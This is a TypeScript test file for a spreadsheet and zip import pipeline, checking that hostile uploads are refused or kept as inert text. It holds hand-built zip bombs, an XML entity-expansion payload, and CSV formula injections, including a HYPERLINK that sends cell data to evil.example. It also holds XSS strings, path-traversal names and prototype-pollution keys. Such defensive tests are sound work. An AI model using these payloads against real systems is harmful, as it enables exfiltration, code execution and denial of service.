import { deflateRawSync } from 'node:zlib';
import { utils, write } from '@e965/xlsx';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { importFiles } from '../../utils/imports/import-files.ts';
import { MAX_BYTES } from '../../utils/imports/open-files.ts';
import { refusalSentence } from '../../utils/imports/refusal-sentences.ts';
import {
  bytesFile,
  linkedinPage,
  metrics,
  NOW,
  preview,
  refusal,
  textFile,
  utf16,
  workbookFile,
  xContent,
  xId,
  xRow,
} from '../unit/imports/written-exports.ts';

/**
 * Every hostile file: refused in one sentence, with nothing to store, within five seconds and 300 MB. The time of all threads
 * together, for a zip is unpacked beside this one; and no clock on the wall, which on a busy machine says nothing of a file.
 */
const TIME_LIMIT = 5_000;

function ownTime(): number {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1000;
}

async function refusedQuickly(file: Parameters<typeof refusal>[0]): Promise<string> {
  const started = ownTime();
  const before = process.memoryUsage.rss();
  const refused = await refusal(file);
  expect(ownTime() - started).toBeLessThan(TIME_LIMIT);
  expect(process.memoryUsage.rss() - before).toBeLessThan(300_000_000);
  const sentence = refusalSentence(refused);
  expect(sentence).toMatch(/^[A-Z][^\n]*[.]$/);
  return refused.code;
}

function noise(length: number): Uint8Array {
  const bytes = new Uint8Array(length);
  for (let at = 0, seed = 42; at < length; at += 1) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    bytes[at] = seed >> 16;
  }
  return bytes;
}

/** A zip made by hand, so that a bomb is quick to make and its headers can claim any size. */
function bomb(names: string[], size: number, claimed = size, others: Record<string, string> = {}): Uint8Array {
  const packed = deflateRawSync(new Uint8Array(size), { level: 1 });
  const entries = [
    ...Object.entries(others).map(([name, text]) => ({ name, body: deflateRawSync(text), claim: text.length })),
    ...names.map((name) => ({ name, body: packed, claim: claimed })),
  ];
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, body, claim } of entries) {
    const local = Buffer.alloc(30 + name.length);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(claim, 22);
    local.writeUInt16LE(name.length, 26);
    local.write(name, 30);
    const central = Buffer.alloc(46 + name.length);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(claim, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(at, 42);
    central.write(name, 46);
    parts.push(local, body);
    directory.push(central);
    at += local.length + body.length;
  }
  const size0 = directory.reduce((sum, part) => sum + part.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(size0, 12);
  end.writeUInt32LE(at, 16);
  return new Uint8Array(Buffer.concat([...parts, ...directory, end]));
}

describe('tables that are something else', () => {
  it.each([
    [
      'a bank statement',
      'Dato;Forklaring;Rentedato;Ut fra konto;Inn på konto\n01.10.2026;Varekjøp Kiwi;01.10.2026;249,90;\n02.10.2026;Lønn;02.10.2026;;41 200,00\n',
      'unknown-table',
    ],
    [
      'an English bank statement',
      'Date,Description,Amount,Balance\n10/01/2026,COFFEE,-4.50,1200.10\n10/02/2026,SALARY,3000.00,4200.10\n',
      'unknown-table',
    ],
    [
      'a table of countries',
      'Geography,Views,Average view duration,Watch time (hours)\nTotal,55,0:04:34,11.3666\nUS,40,0:05:42,5.3897\nNO,15,0:05:11,4.9848\n',
      'by-geography',
    ],
    [
      'a table of countries in a language of its own',
      'X,Y,Z\nT,55,1\nUS,40,1\nNO,15,1\nSE,5,1\nDK,5,1\nFI,5,1\nDE,5,1\nFR,5,1\nNL,5,1\nGB,5,1\nES,5,1\n',
      'by-geography',
    ],
    ['days of nobody knows what', 'Date,Views\n2026-10-01,55\n2026-10-02,56\n', 'unknown-table'],
    ['headers named __proto__', '__proto__,constructor,toString\n1,2,3\n', 'unknown-table'],
    ['formulas', '=cmd|\' /C calc\'!A0,=1+1\n=HYPERLINK("https://evil.example/?"&A1),@SUM(A1)\n', 'unknown-table'],
    ['one word', 'hei', 'nothing-to-map'],
    ['JSON', '[{"id": 1}]', 'not-a-table'],
    ['blank lines', '\n\n\n  \n', 'empty'],
    ['a backup of our own', '{"app":"medspill","format":1}', 'backup-file'],
  ])('refuses %s in one sentence', async (_, text, code) => {
    expect(await refusedQuickly(textFile('export.csv', text))).toBe(code);
  });

  it.each([
    ['a web page', '<!DOCTYPE html><html><body><table><tr><td>Post id</td></tr></table></body></html>'],
    ['a spreadsheet saved as XML', '<?xml version="1.0"?><Workbook><Worksheet/></Workbook>'],
    ['a bare table', '<table><tr><td>1</td></tr></table>'],
  ])('refuses %s named .xls', async (_, text) => {
    expect(await refusedQuickly(textFile('content.xls', text))).toBe('web-page');
  });

  it('refuses a picture, a PDF and noise', async () => {
    expect(
      await refusedQuickly(bytesFile('a.csv', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0, 13]))),
    ).toBe('not-a-table');
    expect(await refusedQuickly(textFile('a.csv', '%PDF-1.7\n1 0 obj'))).toBe('not-a-table');
    expect(await refusedQuickly(bytesFile('a.csv', noise(100_000)))).toBe('not-a-table');
  });
});

describe('files too big for what they are', () => {
  it('refuses 300 MB before reading it', async () => {
    expect(await refusedQuickly(bytesFile('big.csv', new Uint8Array(300_000_000)))).toBe('too-big');
    expect(MAX_BYTES).toBeLessThan(300_000_000);
  });

  it.each([
    ['a million columns', `${'a,'.repeat(1_000_000)}\n${'1,'.repeat(1_000_000)}`],
    ['a million columns on a later line', `a,b\n1,2\n${'1,'.repeat(400_000)}`],
    ['a million quoted columns', `${'"a",'.repeat(300_000)}\n`],
  ])('refuses %s in one sentence', async (_, text) => {
    expect(await refusedQuickly(textFile('wide.csv', text))).toBe('too-wide');
  });

  it('refuses more rows than any export has', async () => {
    expect(await refusedQuickly(textFile('long.csv', 'a,b\n'.repeat(250_000)))).toBe('too-many-rows');
  });

  it('reads a file with an endless quote as cut, in bounded time', async () => {
    const text = `${xContent([xRow('2026-08-01T19:49:03.000Z', 'Hei', '1,1,1,1,1,1,1,1,1,1,1,1,1')])}\n5,"${'x\n'.repeat(2_000_000)}`;
    const started = ownTime();
    const read = await preview(textFile('cut.csv', text));
    expect(ownTime() - started).toBeLessThan(TIME_LIMIT);
    expect(read.problems.map(({ code }) => code)).toContain('cut-file');
    expect(read.rows).toHaveLength(1);
  });
});

describe('zips', () => {
  it('refuses a bomb that admits it, one that lies, and many small ones', async () => {
    const honest = bomb(['Table data.csv'], 210_000_000);
    expect(honest.length).toBeLessThan(1_500_000);
    expect(await refusedQuickly(bytesFile('a.zip', honest))).toBe('unpacks-too-big');
    expect(await refusedQuickly(bytesFile('a.zip', bomb(['Table data.csv'], 150_000_000, 1000)))).toBe(
      'unpacks-too-big',
    );
    const many = Array.from({ length: 150 }, (_, at) => `${at}.csv`);
    expect(await refusedQuickly(bytesFile('a.zip', bomb(many, 15_000_000, 1_000_000)))).toBe('unpacks-too-big');
    const crowd = Array.from({ length: 300 }, (_, at) => `${at}.csv`);
    expect(await refusedQuickly(bytesFile('a.zip', bomb(crowd, 1)))).toBe('unpacks-too-big');
  });

  it('refuses a bomb inside a workbook, and entities', async () => {
    const types = { '[Content_Types].xml': '<Types/>' };
    expect(
      await refusedQuickly(bytesFile('a.xlsx', bomb(['xl/worksheets/sheet1.xml'], 190_000_000, 190_000_000, types))),
    ).toBe('unpacks-too-big');
    expect(await refusedQuickly(bytesFile('a.xlsx', bomb(['xl/worksheets/sheet1.xml'], 90_000_000, 5000, types)))).toBe(
      'unpacks-too-big',
    );
    const laughs = '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><Types>&b;</Types>';
    expect(await refusedQuickly(bytesFile('a.xlsx', bomb([], 1, 1, { '[Content_Types].xml': laughs })))).toBe(
      'not-a-table',
    );
  });

  it('refuses broken, cut and encrypted ones, and one without tables', async () => {
    const good = zipSync({ 'Table data.csv': strToU8('Content,Video title\n') });
    expect(await refusedQuickly(bytesFile('a.zip', good.slice(0, good.length - 30)))).toBe('broken-zip');
    const torn = good.slice();
    torn.fill(0xff, 45, 55);
    expect(await refusedQuickly(bytesFile('a.zip', torn))).toBe('broken-zip');
    expect(await refusedQuickly(bytesFile('a.zip', zipSync({ 'photo.jpg': noise(500) })))).toBe('not-a-table');
    const locked = good.slice();
    const view = new DataView(locked.buffer);
    for (let at = 0; at + 4 < locked.length; at += 1)
      if (view.getUint32(at, true) === 0x02014b50) view.setUint16(at + 8, 1, true);
    expect(await refusedQuickly(bytesFile('a.zip', locked))).toBe('encrypted');
  });

  it('never takes a name in a zip for a path or a key', async () => {
    const table = 'Content,Video title,Video publish time,Views\nTotal,,,5\nvid00000001,Hei,"Aug 17, 2026",5\n';
    const outcome = await importFiles(
      [
        bytesFile(
          'x 2026-08-01_2026-08-31.zip',
          zipSync({ '../../__proto__/Table data.csv': strToU8(table), 'C:\\x\\constructor.txt': strToU8('hei') }),
        ),
      ],
      { now: NOW },
    );
    expect('preview' in outcome && outcome.preview.rows).toHaveLength(1);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('workbooks', () => {
  const withCell = (cell: object, bookType: 'xlsx' | 'biff8') => {
    const sheet = utils.aoa_to_sheet([
      ['a', 'b'],
      [1, 2],
    ]);
    sheet.A2 = cell as never;
    const book = utils.book_new();
    utils.book_append_sheet(book, sheet, 'Ark1');
    return bytesFile('a.xls', new Uint8Array(write(book, { type: 'array', bookType }) as ArrayBuffer));
  };

  it('refuses formulas, also in a file that is otherwise an export', async () => {
    expect(await refusedQuickly(withCell({ t: 'n', v: 2, f: '1+1' }, 'xlsx'))).toBe('formulas');
    const page = linkedinPage('xlsx');
    expect((await preview(page)).rows).toHaveLength(2);
  });

  it('refuses a workbook with macros', async () => {
    const plain = workbookFile('a.xlsx', { Ark1: [['a'], [1]] });
    const { unzipSync } = await import('fflate');
    const entries = unzipSync(plain.bytes);
    expect(await refusedQuickly(bytesFile('a.xlsm', zipSync({ ...entries, 'xl/vbaProject.bin': noise(200) })))).toBe(
      'macros',
    );
  });

  it('refuses a broken .xls and a cut .xlsx', async () => {
    const xls = linkedinPage('biff8').bytes.slice(0, 900);
    expect(await refusedQuickly(bytesFile('a.xls', xls))).toBe('broken-workbook');
    const xlsx = linkedinPage('xlsx').bytes;
    expect(await refusedQuickly(bytesFile('a.xlsx', xlsx.slice(0, xlsx.length / 2)))).toBe('broken-zip');
  });

  it('is not blown up by one value in the farthest corner', async () => {
    const { unzipSync } = await import('fflate');
    const entries = unzipSync(workbookFile('a.xlsx', { Ark1: [['a'], [1]] }).bytes);
    const sheet =
      '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>';
    const code = await refusedQuickly(
      bytesFile('a.xlsx', zipSync({ ...entries, 'xl/worksheets/sheet1.xml': strToU8(sheet) })),
    );
    expect(['too-wide', 'too-many-rows', 'nothing-to-map']).toContain(code);
  });
});

describe('hostile contents in a true export', () => {
  it('keeps formulas, markup and prototype words as the text they are', async () => {
    const at = '2026-08-01T19:49:03.000Z';
    const words = [
      '=HYPERLINK("https://evil.example/?"&A1,"klikk")',
      '<img src=x onerror=alert(1)>',
      '__proto__',
      'constructor',
    ];
    const rows = words.map((text, index) =>
      xRow(at, text, '1,2,3,4,5,6,7,8,9,1,1,1,1', xId(at, index), `https://x.com/e/status/${xId(at, index)}`),
    );
    const read = await preview(textFile('e.csv', xContent(rows)));
    expect(read.rows.map(({ text }) => text)).toEqual(words);
    expect(metrics(read)).toMatchObject({ impressions: 1 });
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
  });

  it('keeps no link that is not https, and no text longer than the excerpt', async () => {
    const at = '2026-08-01T19:49:03.000Z';
    const read = await preview(
      bytesFile(
        'e.csv',
        utf16(
          xContent([
            xRow(at, 'x'.repeat(5000), '1,2,3,4,5,6,7,8,9,1,1,1,1'),
            xRow(at, 'y', '1,2,3,4,5,6,7,8,9,1,1,1,1', xId(at, 9), 'javascript:alert(1)'),
            xRow(at, 'z', '1,2,3,4,5,6,7,8,9,1,1,1,1', xId(at, 10)),
          ]),
        ),
      ),
    );
    expect(read.rows[0]?.text).toHaveLength(600);
    expect(read.rows.map(({ url }) => url?.slice(0, 8) ?? null)).not.toContain('javascri');
  });
});
